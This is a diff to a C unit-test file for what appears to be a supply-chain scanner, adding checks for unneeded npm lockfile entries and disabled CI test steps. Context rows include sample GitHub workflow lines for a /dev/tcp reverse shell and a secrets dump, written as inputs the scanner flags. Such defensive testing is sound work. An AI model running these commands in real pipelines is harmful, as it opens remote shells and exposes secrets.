@@ -454,6 +454,12 @@ static void lock_files_are_judged(void **state)
 		check("package-lock.json", "{}", text, rows[i].rule);
 		check("package-lock.json", text, text, SCAN_RULES);
 	}
+	/* One that nothing needs, beside those that something does. */
+#define NEEDS(more)                                                                                                               \
+	"{\"lockfileVersion\": 3, \"packages\": {\"\": {\"dependencies\": {\"a\": \"1\"}}, " LOCKED("a", "r.example/a/-/a-1.tgz", \
+	        DIGEST ", \"peerDependencies\": {\"b\": \"1\"}") ", " LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST) more "}}"
+	check("package-lock.json", "{}", NEEDS(""), SCAN_RULES);
+	check("package-lock.json", NEEDS(""), NEEDS(", " LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST)), SCAN_RULE_CHANGE_LOCK);
 #define YARN(name, url) "\"" name "@^1\":\n  version \"1\"\n  resolved \"https://" url "#abc\"\n  integrity sha512-x\n\n"
 #define THREE           YARN("a", "r.example/a/-/a-1.tgz") YARN("@b/c", "r.example/@b/c/-/c-1.tgz") YARN("d", "r.example/d/-/d-1.tgz")
 	check("yarn.lock", "", THREE, SCAN_RULES);
@@ -568,6 +574,8 @@ static void what_runs_by_itself_is_judged(void **state)
 	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo '${{ toJSON(secrets) }}' >x"), SCAN_RULE_CHANGE_WORKFLOW_SECRETS},
 	        {".github/workflows/a.yml", WORKFLOW("push", "run: bash -i >& /dev/tcp/192.0.2.1/4 0>&1"), SCAN_RULE_CODE_COMMAND},
 	        {".github/workflows/a.yml", WORKFLOW("push", "uses: a/b@v1"), SCAN_RULE_CHANGE_DEPENDENCY},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: false"), SCAN_RULE_CHANGE_TEST_OFF},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: failure()"), SCAN_RULES},
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
